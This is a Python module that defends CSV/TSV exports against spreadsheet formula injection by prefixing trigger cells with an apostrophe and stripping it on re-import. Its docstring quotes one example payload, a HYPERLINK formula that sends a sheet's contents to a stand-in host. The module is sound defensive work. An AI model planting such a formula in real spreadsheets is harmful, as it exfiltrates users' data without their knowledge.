"""Spreadsheet formula injection (OWASP "CSV injection"): a cell that starts with = + - @ tab or CR runs as a formula
when a CSV/TSV is opened in Excel or LibreOffice (``=HYPERLINK("http://x/?"&A1,"click")`` sends the sheet away).

Every CSV/TSV the product writes passes its text cells through ``neutralise`` (a leading apostrophe, which both
programs show as text); reading a CSV/TSV back passes them through ``restore``, which removes exactly that
apostrophe, so ``restore(neutralise(s)) == s`` for every string and our own export round-trips whole. Plain numbers
("-1.5", "+44") are left alone: a spreadsheet reads them as numbers, never as formulas. A cell that already starts
with apostrophes before a trigger ("'=x") gets one more, so it too comes back as it was."""

from __future__ import annotations

import re
from typing import Any

_TRIGGER = re.compile(r"'*[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _needs(text: str) -> bool:
    return bool(_TRIGGER.match(text)) and not _NUMBER.fullmatch(text.lstrip("'"))


def neutralise(text: str) -> str:
    """A cell that a spreadsheet would run as a formula, made text with a leading apostrophe; others as they are."""
    return "'" + text if text[:1] in "=+-@\t\r'" and text and _needs(text) else text


def restore(text: str) -> str:
    """The cell as it was before ``neutralise`` (its one added apostrophe removed); others as they are."""
    return text[1:] if text[:1] == "'" and _needs(text[1:]) else text


def csv_bytes(frame: Any, index: bool = False) -> bytes:
    """A pandas table as UTF-8 CSV for a download, every text cell and header neutralised."""
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or str(safe[column].dtype) in ("string", "str"):
            safe[column] = [neutralise(v) if isinstance(v, str) else v for v in safe[column]]
    safe.columns = [neutralise(str(c)) if isinstance(c, str) else c for c in safe.columns]
    if index:
        safe.index = [neutralise(v) if isinstance(v, str) else v for v in safe.index]
    return safe.to_csv(index=index, lineterminator="\r\n").encode("utf-8")  # "\r\n": a bare CR is quoted
